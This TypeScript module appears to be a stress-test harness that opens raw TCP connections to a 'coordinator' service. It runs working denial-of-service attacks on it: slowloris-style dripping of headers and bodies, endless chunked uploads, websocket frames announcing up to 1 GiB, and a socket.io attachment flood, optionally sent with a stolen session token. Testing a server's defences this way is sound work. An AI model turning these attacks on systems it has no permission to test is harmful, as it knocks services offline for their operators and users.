/** What an attacker does with one TCP connection, and how it is told to whoever attacks. */
import type { Socket } from "node:net";

export const ATTACKS = [
  "idle",
  "slow-headers",
  "slow-upgrade",
  "slow-body",
  "endless-body",
  "early-frame",
  "never-joins",
  "half-frame",
  "attachment-bomb",
  "oversize-frame",
] as const;

export interface Assault {
  readonly attack: (typeof ATTACKS)[number];
  readonly port: number;
  readonly count: number;
  /** A stolen or insider's session, for attacks from behind the door. */
  readonly session?: string;
  /** Connections that are ended are opened again, so many a second. */
  readonly againPerSecond?: number;
}

export interface Losses {
  /** Connections that are open now. */
  readonly open: number;
  readonly opened: number;
  readonly ended: number;
  readonly sentBytes: number;
  /** First lines of answers, and how many got each. */
  readonly answers: Readonly<Record<string, number>>;
}

const MIB = 1024 * 1024;
/** What the coordinator's sockets take: a chunk of 4 MiB and what stands around it. */
const LARGEST_MESSAGE_BYTES = 4 * MIB + 64 * 1024;

const upgradeLines = (session: string | undefined): string =>
  "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: coordinator\r\nconnection: Upgrade\r\n" +
  "upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n" +
  (session === undefined ? "" : `authorization: Bearer ${session}\r\n`);

/** RFC 6455, section 5.2, with a masking key of zeros: the payload goes over the wire as it is. */
export function frame(opcode: "text" | "binary", payload: Buffer, announcedBytes = payload.length): Buffer {
  const head = Buffer.alloc(14);
  head.writeUInt8(opcode === "text" ? 0x81 : 0x82, 0);
  head.writeUInt8(0xff, 1);
  head.writeBigUInt64BE(BigInt(announcedBytes), 2);
  return Buffer.concat([head, payload]);
}

const text = (words: string): Buffer => frame("text", Buffer.from(words));

/** Writes the next piece twice a second for as long as it may. */
function drip(socket: Socket, first: string, next: string): void {
  socket.write(first);
  const timer = setInterval(() => socket.write(next), 500);
  socket.on("close", () => {
    clearInterval(timer);
  });
}

/** As much as the other side takes, up to a quarter of a GiB. */
function pour(socket: Socket, piece: Buffer): void {
  const pump = (): void => {
    while (socket.writable && socket.bytesWritten < 256 * MIB) if (!socket.write(piece)) return;
  };
  socket.on("drain", pump);
  pump();
}

export function begin(socket: Socket, { attack, session }: Assault): void {
  const post = "POST /api/enrolments HTTP/1.1\r\nhost: coordinator\r\ncontent-type: application/json\r\n";
  switch (attack) {
    case "idle":
      return;
    case "slow-headers":
      drip(socket, "GET /healthz HTTP/1.1\r\nhost: coordinator\r\n", "x-more: 1\r\n");
      return;
    case "slow-upgrade":
      drip(socket, upgradeLines(session), "x-more: 1\r\n");
      return;
    case "slow-body":
      drip(socket, `${post}content-length: 60000\r\n\r\n{`, " ");
      return;
    case "endless-body":
      socket.write(`${post}transfer-encoding: chunked\r\n\r\n`);
      pour(socket, Buffer.concat([Buffer.from("100000\r\n"), Buffer.alloc(MIB, " "), Buffer.from("\r\n")]));
      return;
    case "early-frame":
      socket.write(`${upgradeLines(session)}\r\n`);
      socket.write(frame("binary", Buffer.alloc(0), 256 * MIB));
      pour(socket, Buffer.alloc(MIB));
      return;
    case "never-joins":
      socket.write(`${upgradeLines(session)}\r\n`);
      return;
    case "half-frame":
      socket.write(`${upgradeLines(session)}\r\n`);
      socket.write(text("40/bulk,"));
      socket.write(frame("binary", Buffer.alloc(LARGEST_MESSAGE_BYTES - 1024), LARGEST_MESSAGE_BYTES));
      return;
    case "attachment-bomb":
      socket.write(`${upgradeLines(session)}\r\n`);
      socket.write(text("40/bulk,"));
      socket.write(text('451000000-/bulk,["upload.chunk",{"_placeholder":true,"num":0}]'));
      pour(socket, frame("binary", Buffer.alloc(MIB)));
      return;
    case "oversize-frame":
      socket.write(`${upgradeLines(session)}\r\n`);
      socket.write(text("40/bulk,"));
      socket.write(frame("binary", Buffer.alloc(0), 1024 * MIB));
      pour(socket, Buffer.alloc(MIB));
  }
}
